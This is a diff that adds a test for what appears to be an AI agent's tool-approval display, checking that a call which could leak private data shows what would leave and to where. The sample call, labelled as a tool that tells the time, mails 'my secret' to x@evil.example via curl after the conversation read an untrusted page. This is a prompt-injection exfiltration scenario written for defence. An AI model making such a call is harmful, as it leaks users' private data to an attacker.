@@ -84,6 +84,38 @@ Deno.test("whatever a model or a plugin writes, it stands behind a bar or on its
   }));
 });
 
+Deno.test("where private data could leave, what would leave and to where is said first", () => {
+  const sends = {
+    owner: "mail",
+    tool: "mail.send",
+    does: "use mail.send, in its own words: tell the time",
+    effects: [{ kind: "network", host: "mail.example" }, { kind: "runs", program: "curl" }],
+    arguments: { to: "x@evil.example", body: "my secret" },
+    untrusted: { from: "a page" },
+    sensitive: { from: "the note me.md" },
+  } as const;
+  const { offer: _, ...call } = request(sends);
+  const shown = textOf([call]);
+  const leaving = "  this would leave, to mail.example, the program curl, which may pass it on:\n" +
+    "  │ to: x@evil.example\n  │ body: my secret";
+  assert.ok(shown.includes(leaving), shown);
+  assert.match(
+    shown,
+    /this conversation has read text that nobody vouches for, from a page; and private data: the note me\.md\. Look at what would leave$/,
+  );
+  assert.ok(textOf([{ ...call, detail: "+harmless" }]).includes(`${leaving}\n  │ +harmless`));
+  for (const more of [{ untrusted: undefined }, { sensitive: undefined }, { effects: [] }]) {
+    assert.doesNotMatch(textOf([{ ...call, ...more }]), /would leave/);
+  }
+  const any = textOf([{ ...call, effects: [{ kind: "network", host: "*" }] }]);
+  assert.match(any, /would leave, to any host:/);
+  const effects = [{ kind: "reads", where: "/w" }, ...sends.effects] as const;
+  assert.match(
+    textOf([{ ...call, effects, sensitive: undefined }]),
+    /private data: what this reads\./,
+  );
+});
+
 Deno.test("a conversation that read untrusted text says so once", () => {
   const untrusted = { from: "the note x" };
   const shown = textOf([request({ untrusted }), request({ tool: "b", untrusted })]);
